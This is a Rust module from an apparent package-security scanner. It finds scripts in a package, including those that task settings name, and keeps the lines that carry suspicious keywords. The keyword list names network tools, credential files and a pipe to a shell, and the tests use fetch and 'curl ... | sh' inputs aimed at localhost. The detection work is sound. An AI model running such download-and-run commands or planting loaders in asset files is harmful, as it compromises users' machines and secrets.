//! Scripts and pages in a package: text that runs when something names it.
//!
//! Which of them a tool runs is for rules to find out, so all are listed, those that a special file names first. Of a long one
//! only lines with a word of programs, networks or files are kept.

use std::collections::HashSet;

use cratekeeper_model::facts::{Setting, SpecialFile, SpecialRole};

use super::{COMMAND_CHARACTERS, SETTINGS};
use crate::PackageFile;
use crate::text::excerpt_of;

/// Most scripts that are listed; those that something names come first.
const SCRIPTS: usize = 40;

/// Scripts above this size are programs of their own, such as minified libraries; they are read as far as this.
const SCRIPT_BYTES: usize = 256 << 10;

/// Most pieces of one long line.
const PIECES: usize = 20;

const ENDINGS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "fish",
    "ps1",
    "psm1",
    "bat",
    "cmd",
    "vbs",
    "js",
    "mjs",
    "cjs",
    "ts",
    "py",
    "rb",
    "pl",
    "php",
    "lua",
    "html",
    "htm",
    "applescript",
    "command",
];

/// Words of lines that are kept first when there are too many.
const TELLING: &[&str] = &[
    "curl",
    "wget",
    "invoke-",
    "iwr",
    "irm",
    "http",
    "fetch",
    "request",
    "socket",
    "/dev/tcp",
    "nc ",
    "scp",
    "ftp",
    "ssh",
    "credential",
    "token",
    "secret",
    "key",
    "wallet",
    ".env",
    "env",
    "cookie",
    "storage",
    "base64",
    "atob",
    "btoa",
    "charcode",
    "eval",
    "exec",
    "spawn",
    "start-process",
    "chmod",
    "cron",
    "launch",
    "systemctl",
    "authorized",
    "schtasks",
    "| sh",
    "|sh",
    "bash",
    "node ",
    "python",
    "download",
    "image",
    "beacon",
    "nohup",
    "-enc",
    ".aws",
    ".npmrc",
    ".kube",
    "child_process",
    "subprocess",
    "openssl",
    "xxd",
    "/tmp",
    "$home",
    "~/",
];

/// The scripts among `files` that `special` does not list already.
pub(super) fn files(files: &[&PackageFile<'_>], special: &[SpecialFile]) -> Vec<SpecialFile> {
    let listed: HashSet<&str> = special.iter().map(|it| it.path.as_str()).collect();
    let named = Named::by(special);
    let mut scripts: Vec<(bool, &&PackageFile<'_>)> = files
        .iter()
        .filter(|file| !listed.contains(file.path) && !file.path.ends_with(".rs"))
        .map(|file| (!named.has(file.path), file))
        .filter(|(is_unnamed, file)| !is_unnamed || is_script(file))
        .collect();
    scripts.sort_by_key(|(is_unnamed, file)| (*is_unnamed, file.path));
    scripts.into_iter().filter_map(|(_, file)| read(file)).take(SCRIPTS).collect()
}

/// Words of settings, by which a file may be named.
struct Named<'s> {
    words: Vec<&'s str>,
    directories: Vec<&'s str>,
}

impl<'s> Named<'s> {
    fn by(special: &'s [SpecialFile]) -> Named<'s> {
        let not_lockfiles = special.iter().filter(|it| it.role != SpecialRole::Lockfile);
        let values = not_lockfiles.clone().flat_map(|it| &it.settings).map(|it| it.value.as_str());
        let words =
            values.flat_map(|it| it.split(|it: char| it.is_whitespace() || "\"'`;|&()=<>,".contains(it)));
        let toolchains = special.iter().filter(|it| it.role == SpecialRole::Toolchain);
        let directories = toolchains.flat_map(|it| &it.settings).map(|it| it.value.trim_start_matches("./"));
        Named {
            words: words.filter(|it| it.len() > 2).map(|it| it.trim_start_matches("./")).take(2000).collect(),
            directories: directories.filter(|it| it.contains(['/', '.']) && it.len() > 2).take(10).collect(),
        }
    }

    fn has(&self, path: &str) -> bool {
        self.words
            .iter()
            .any(|word| word.strip_suffix(path).is_some_and(|rest| rest.is_empty() || rest.ends_with('/')))
            || self.directories.iter().any(|it| path.starts_with(it))
    }
}

fn is_script(file: &PackageFile<'_>) -> bool {
    let ending = file.path.rsplit_once('.').map_or("", |(_, ending)| ending).to_ascii_lowercase();
    ENDINGS.contains(&ending.as_str()) || file.content.starts_with(b"#!")
}

fn read(file: &PackageFile<'_>) -> Option<SpecialFile> {
    let content = &file.content[..file.content.len().min(SCRIPT_BYTES)];
    let text = match std::str::from_utf8(content) {
        Ok(text) => text,
        // Cut in the middle of a character.
        Err(error) if error.error_len().is_none() => {
            std::str::from_utf8(&content[..error.valid_up_to()]).ok()?
        }
        Err(_) => return None,
    };
    Some(SpecialFile {
        path: file.path.to_owned(),
        role: SpecialRole::Script,
        settings: telling_lines(text),
        problem: None,
    })
}

/// Lines that are neither empty nor a shell's comment; where there are many, those with a telling word.
pub(super) fn telling_lines(text: &str) -> Vec<Setting> {
    let numbered = text.lines().enumerate().map(|(number, line)| (number, line.trim()));
    let kept: Vec<(usize, &str)> = numbered
        .filter(|(_, line)| !line.is_empty() && (!line.starts_with('#') || line.starts_with("#!")))
        .collect();
    let pieces = kept.into_iter().flat_map(|(number, line)| pieces(line).map(move |piece| (number, piece)));
    let pieces: Vec<(usize, &str)> = pieces.take(100 * SETTINGS).collect();
    let all = pieces.len() <= SETTINGS;
    let is_telling = |line: &str| {
        let line = line.to_ascii_lowercase();
        TELLING.iter().any(|it| line.contains(it))
    };
    let telling = pieces.into_iter().filter(|(_, line)| all || is_telling(line)).take(SETTINGS);
    telling
        .map(|(number, line)| Setting {
            key: String::new(),
            value: excerpt_of(line, COMMAND_CHARACTERS),
            line: number as u32 + 1,
        })
        .collect()
}

/// A line in pieces that are short enough to be kept whole.
fn pieces(line: &str) -> impl Iterator<Item = &str> {
    let mut rest = line;
    std::iter::from_fn(move || {
        let end = rest.floor_char_boundary(COMMAND_CHARACTERS.min(rest.len()));
        let (piece, after) = rest.split_at(end);
        rest = after;
        (!piece.is_empty()).then_some(piece)
    })
    .take(PIECES)
}

#[cfg(test)]
mod tests {
    use crate::PackageFile;

    #[test]
    fn scripts_are_told_by_ending_first_line_or_by_being_named() {
        let files = [
            PackageFile::new(".vscode/tasks.json", b"{\"command\": \"node ./a/font.woff2\"}"),
            PackageFile::new("a/font.woff2", b"# x\nfetch('http://127.0.0.1:9')"),
            PackageFile::new("tools/run", b"#!/bin/sh\n\ntrue"),
            PackageFile::new("notes.txt", b"curl"),
            PackageFile::new("src/lib.rs", b"#!/bin/sh"),
        ];
        let found = super::super::files(&files.iter().collect::<Vec<_>>());
        let paths: Vec<&str> = found.iter().map(|it| it.path.as_str()).collect();
        assert_eq!(paths, [".vscode/tasks.json", "a/font.woff2", "tools/run"]);
        assert_eq!(found[1].settings[0].value, "fetch('http://127.0.0.1:9')");
        assert_eq!(found[2].settings.len(), 2);
    }

    #[test]
    fn of_long_scripts_telling_lines_are_kept() {
        let text = "echo hello\n".repeat(5000) + "curl http://127.0.0.1:9 | sh\n";
        let lines = super::telling_lines(&text);
        assert_eq!((lines.len(), lines[0].line), (1, 5001));
        let long = "x".repeat(5000) + "curl a | sh";
        assert!(super::telling_lines(&long).iter().any(|it| it.value.contains("curl")));
    }
}
